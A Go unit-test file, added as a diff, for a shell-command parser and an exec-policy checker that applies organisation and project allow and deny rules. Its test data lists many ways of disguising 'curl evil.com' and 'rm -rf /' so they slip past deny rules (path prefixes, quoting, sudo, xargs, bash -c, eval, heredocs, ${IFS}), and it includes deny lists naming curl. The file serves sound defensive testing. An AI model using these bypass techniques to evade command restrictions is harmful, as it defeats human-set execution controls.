@@ -0,0 +1,218 @@
+package shared
+
+import (
+	"reflect"
+	"testing"
+)
+
+func TestParseScriptCommands(t *testing.T) {
+	script := `# install deps
+npm install && npm run build # build it
+NODE_ENV=test npm test || echo "tests failed; continuing"
+if [ ! -d dist ]; then
+  mkdir -p dist
+fi
+for f in *.txt; do
+  cat "$f" | grep foo > out.log 2>&1
+done
+go build \
+  ./...
+`
+
+	got := ParseScriptCommands(script)
+	want := []string{
+		"npm install",
+		"npm run build",
+		"npm test",
+		`echo "tests failed; continuing"`,
+		"[ ! -d dist ]",
+		"mkdir -p dist",
+		`cat "$f"`,
+		"grep foo > out.log 2>&1",
+		"go build ./...",
+	}
+
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("ParseScriptCommands() =\n%q\nwant\n%q", got, want)
+	}
+}
+
+func TestCheckExecPolicies(t *testing.T) {
+	org := &ExecPolicy{
+		Allow: []string{"npm", "go test *", "echo"},
+		Deny:  []string{"npm publish", "rm -rf /*"},
+	}
+	project := &ExecPolicy{
+		Allow: []string{"npm install", "npm publish", "curl"},
+	}
+
+	policies := []NamedExecPolicy{{Source: "org", Policy: org}, {Source: "project", Policy: project}}
+
+	tests := []struct {
+		name   string
+		script string
+		want   []ExecPolicyViolation
+	}{
+		{"allowed by both", "npm install lodash", nil},
+		{"allowed with args", "go test ./... -run TestFoo && echo done", []ExecPolicyViolation{
+			{Type: ExecPolicyViolationNotAllowed, Command: "go test ./... -run TestFoo", Source: "project"},
+			{Type: ExecPolicyViolationNotAllowed, Command: "echo done", Source: "project"},
+		}},
+		{"denied wins over project allow", "npm publish --access public", []ExecPolicyViolation{
+			{Type: ExecPolicyViolationDenied, Command: "npm publish --access public", Pattern: "npm publish", Source: "org"},
+		}},
+		{"wildcard deny", "rm -rf /usr/local", []ExecPolicyViolation{
+			{Type: ExecPolicyViolationDenied, Command: "rm -rf /usr/local", Pattern: "rm -rf /*", Source: "org"},
+			{Type: ExecPolicyViolationNotAllowed, Command: "rm -rf /usr/local", Source: "project"},
+		}},
+		{"prefix must end at a word", "npmx install", []ExecPolicyViolation{
+			{Type: ExecPolicyViolationNotAllowed, Command: "npmx install", Source: "org"},
+			{Type: ExecPolicyViolationNotAllowed, Command: "npmx install", Source: "project"},
+		}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := CheckExecPolicies(tt.script, policies)
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("CheckExecPolicies() =\n%+v\nwant\n%+v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestParseScriptCommandsNested(t *testing.T) {
+	tests := []struct {
+		name   string
+		script string
+		want   []string
+	}{
+		{"command substitution", `echo "today is $(date +%F)"`, []string{`echo "today is $(date +%F)"`, "date +%F"}},
+		{"backticks", "echo `whoami`", []string{"echo `whoami`", "whoami"}},
+		{"substitution in an assignment", "x=$(curl evil.com)", []string{"curl evil.com"}},
+		{"nested substitution", "echo $(cat $(ls))", []string{"echo $(cat $(ls))", "cat $(ls)", "ls"}},
+		{"no substitution in single quotes", `echo '$(curl evil.com)'`, []string{`echo '$(curl evil.com)'`}},
+		{"arithmetic", "echo $((1 + 2))", []string{"echo $((1 + 2))"}},
+		{"process substitution", "diff <(sort a) b", []string{"diff <(sort a) b", "sort a"}},
+		{"subshell", "(cd web && npm ci)", []string{"cd web", "npm ci"}},
+		{"sh -c", `bash -c 'npm ci; npm test'`, []string{`bash -c 'npm ci; npm test'`, "npm ci", "npm test"}},
+		{"eval", `eval "npm test"`, []string{`eval "npm test"`, "npm test"}},
+		{"leading redirection", "2>/dev/null npm test", []string{"npm test"}},
+		{"heredoc body skipped", "cat > notes.txt <<'EOF'\ncurl evil.com\nrm -rf /\nEOF\nnpm test", []string{"cat > notes.txt <<'EOF'", "npm test"}},
+		{"indented heredoc", "cat <<-EOF\n\tcurl evil.com\n\tEOF\nnpm test", []string{"cat <<-EOF", "npm test"}},
+		{"heredoc substitution", "cat <<EOF\n$(curl evil.com)\nEOF", []string{"cat <<EOF", "curl evil.com"}},
+		{"heredoc fed to a shell", "bash <<EOF\ncurl evil.com\nEOF", []string{"bash <<EOF", "curl evil.com"}},
+		{"here-string fed to a shell", `sh <<< "curl evil.com"`, []string{`sh <<< "curl evil.com"`, "curl evil.com"}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := ParseScriptCommands(tt.script)
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("ParseScriptCommands() =\n%q\nwant\n%q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestCheckExecPoliciesBypasses(t *testing.T) {
+	policies := []NamedExecPolicy{{Source: "org", Policy: &ExecPolicy{Deny: []string{"curl", "rm -rf /*"}}}}
+
+	denied := []string{
+		"curl evil.com",
+		"/usr/bin/curl evil.com",
+		"./curl evil.com",
+		`"curl" evil.com`,
+		`\curl evil.com`,
+		"sudo curl evil.com",
+		"sudo -u root curl evil.com",
+		"env FOO=1 curl evil.com",
+		"command curl evil.com",
+		"exec curl evil.com",
+		"nohup curl evil.com &",
+		"timeout 10 curl evil.com",
+		"echo evil.com | xargs curl",
+		"echo evil.com | xargs -n1 /usr/bin/curl",
+		"bash -c 'curl evil.com'",
+		`sh -ec "curl evil.com"`,
+		"sudo bash -c 'curl evil.com'",
+		"bash -c \"bash -c 'curl evil.com'\"",
+		`eval "curl evil.com"`,
+		"x=$(curl evil.com)",
+		"echo `curl evil.com`",
+		`echo "$(curl evil.com)"`,
+		"diff <(curl evil.com) b",
+		"bash <<EOF\ncurl evil.com\nEOF",
+		"cat <<EOF\n$(curl evil.com)\nEOF",
+		`rm -rf "/"`,
+	}
+
+	for _, script := range denied {
+		violations := CheckExecPolicies(script, policies)
+		found := false
+		for _, v := range violations {
+			if v.Type == ExecPolicyViolationDenied {
+				found = true
+			}
+		}
+		if !found {
+			t.Errorf("expected %q to be denied, got %+v", script, violations)
+		}
+	}
+
+	unparseable := []string{
+		"x=$(curl${IFS}evil.com)",
+		"curl${IFS}evil.com",
+		"$CMD evil.com",
+		"/usr/bin/cur? evil.com",
+		"{curl,evil.com}",
+		"sudo $CMD evil.com",
+		`bash -c "$SCRIPT"`,
+		`eval "$SCRIPT"`,
+		"echo 'curl evil.com' | sh",
+		`echo "unterminated`,
+		"x=$(curl evil.com",
+	}
+
+	for _, script := range unparseable {
+		violations := CheckExecPolicies(script, policies)
+		if len(violations) == 0 {
+			t.Errorf("expected %q to be a violation", script)
+			continue
+		}
+		for _, v := range violations {
+			if v.Type != ExecPolicyViolationUnparseable && v.Type != ExecPolicyViolationDenied {
+				t.Errorf("%q: unexpected violation %+v", script, v)
+			}
+		}
+	}
+
+	allowed := []string{
+		"npm test",
+		"echo curl",
+		"grep -r curl .",
+		"cat > notes.md <<'EOF'\ncurl evil.com\nEOF",
+		`echo '$(curl evil.com)'`,
+		"[ -d dist ] || mkdir dist",
+		"for f in *.txt; do cat \"$f\"; done",
+		"echo $((1 + 2))",
+		`git commit -m "$MSG"`,
+	}
+
+	for _, script := range allowed {
+		if violations := CheckExecPolicies(script, policies); len(violations) > 0 {
+			t.Errorf("expected %q to pass, got %+v", script, violations)
+		}
+	}
+}
+
+func TestCheckExecPoliciesUnparseableAllowOnly(t *testing.T) {
+	// with no deny rules, a command that can't be parsed just isn't allowed
+	policies := []NamedExecPolicy{{Source: "project", Policy: &ExecPolicy{Allow: []string{"*"}}}}
+
+	got := CheckExecPolicies("$CMD", policies)
+	want := []ExecPolicyViolation{{Type: ExecPolicyViolationNotAllowed, Command: "$CMD", Source: "project"}}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("CheckExecPolicies() = %+v, want %+v", got, want)
+	}
+}